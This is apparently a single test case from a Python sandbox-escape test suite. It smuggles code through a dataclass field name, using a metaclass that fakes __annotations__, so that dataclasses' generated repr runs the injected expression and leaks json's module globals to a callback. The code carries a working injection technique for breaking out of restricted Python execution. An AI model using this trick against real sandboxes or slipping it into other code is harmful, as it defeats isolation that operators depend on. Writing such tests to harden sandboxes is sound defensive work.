# technique: a metaclass __dict__ property feeds dataclasses annotations with a code-carrying field name
# expect: any
import dataclasses, json
got = []
def cb(x):
    got.append(x)
    return 1
name = "__class__ and cb(json.dumps.__globals__)"
M = type('M', (type,), {'__dict__': property(lambda cls: {'__annotations__': {name: int}})})
class C(metaclass=M):
    "doc"
repr(dataclasses.dataclass(C, init=False, eq=False)())
sorted(got[0])[:5]
